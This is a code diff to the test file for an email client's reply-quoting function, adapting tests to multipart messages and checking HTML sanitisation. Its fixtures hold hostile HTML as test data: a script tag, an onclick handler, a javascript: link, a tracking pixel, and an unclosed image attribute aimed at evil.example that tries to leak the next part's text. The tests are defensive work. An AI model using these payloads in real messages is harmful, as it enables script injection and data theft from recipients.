@@ -15,7 +15,7 @@ function original(parts: Partial<OriginalMessage>): OriginalMessage {
     bcc: [],
     date: new Date('2026-12-04T09:30:00Z'),
     text: null,
-    html: null,
+    parts: [],
     inlineImages: new Map(),
     attachments: [],
     fields: new Map(),
@@ -38,7 +38,10 @@ describe('replyBody', () => {
       '<p onclick="steal()">Hello <b>there</b></p><script>alert(1)</script>' +
       '<img src="https://tracker.example/pixel.gif"><img src="cid:logo@x" alt="logo"><a href="javascript:alert(1)">x</a>';
     const body = replyBody(
-      original({ html, inlineImages: new Map([['logo@x', 'data:image/png;base64,iVBORw0KGgo=']]) }),
+      original({
+        parts: [{ kind: 'html', html }],
+        inlineImages: new Map([['logo@x', 'data:image/png;base64,iVBORw0KGgo=']]),
+      }),
       options,
     );
     expect(body.format).toBe('html');
@@ -51,10 +54,24 @@ describe('replyBody', () => {
 
   it('keeps remote images in the quote only when the user allowed them for that message', () => {
     const html = '<img src="https://images.example/photo.jpg" alt="photo">';
-    expect(replyBody(original({ html }), options).html).not.toContain('images.example');
-    expect(replyBody(original({ html }), { ...options, allowRemote: true }).html).toContain(
-      'https://images.example/photo.jpg',
+    expect(replyBody(original({ parts: [{ kind: 'html', html }] }), options).html).not.toContain(
+      'images.example',
     );
+    expect(
+      replyBody(original({ parts: [{ kind: 'html', html }] }), { ...options, allowRemote: true }).html,
+    ).toContain('https://images.example/photo.jpg');
+  });
+
+  it('sanitizes each HTML part on its own: an unclosed attribute in one never swallows the next', () => {
+    const parts = [
+      { kind: 'html' as const, html: '<p>Hi</p><img src="https://evil.example/?x=' },
+      { kind: 'text' as const, text: 'between' },
+      { kind: 'html' as const, html: '<p>the secret</p>"><p>tail</p>' },
+    ];
+    const body = replyBody(original({ parts }), { ...options, allowRemote: true });
+    expect(body.html).toContain('<p>the secret</p>');
+    expect(body.html).toContain('<p>between</p>');
+    expect(body.html).not.toContain('evil.example/?x=%3Cp%3Ethe');
   });
 
   it('escapes the sender name in the attribution line', () => {
@@ -84,10 +101,13 @@ describe('replyBody', () => {
   });
 
   it('quotes an HTML-only original as text in a plain-text reply', () => {
-    const body = replyBody(original({ html: '<p>Привет</p><ul><li>один</li></ul>' }), {
-      ...options,
-      format: 'text',
-    });
+    const body = replyBody(
+      original({ parts: [{ kind: 'html', html: '<p>Привет</p><ul><li>один</li></ul>' }] }),
+      {
+        ...options,
+        format: 'text',
+      },
+    );
     expect(body.text.endsWith('wrote:\n> Привет\n> - один')).toBe(true);
   });
 
